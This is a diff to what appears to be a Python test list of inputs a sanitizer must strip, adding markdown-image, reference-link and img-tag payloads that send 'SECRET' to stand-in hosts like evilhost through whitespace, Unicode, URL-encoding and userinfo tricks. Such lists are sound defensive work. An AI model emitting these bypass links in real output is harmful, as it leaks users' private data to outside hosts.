@@ -90,6 +90,18 @@ REMOVED = [
     '<img srcset="/a 1x,//evil%2eexample/SECRET 2x">',
     "https://acme.example/https://evil.example/SECRET https://evil.example/SECRET",
     "https://evil.example/" + "SECRET" * 2_000,
+    "![x](\n//evilhost/SECRET)",
+    "![x](  \n  //evilhost/SECRET)",
+    "![x]( //evilhost?SECRET)",
+    "![x](\u00a0//evilhost/SECRET)",
+    "![x](\ufeff//evilhost/SECRET)",
+    "[x]:\n//evilhost/SECRET",
+    "<img src= //evilhost/SECRET>",
+    "<img src =\n'//evilhost/SECRET'>",
+    "![x](https://evilhost/SECRET)",
+    "![x](https://[::1]/SECRET)",
+    "![x](https://acme.example%2eevil.example/SECRET)",
+    "![x](https://acme.example:443@evil.example/SECRET)",
 ]
 
 
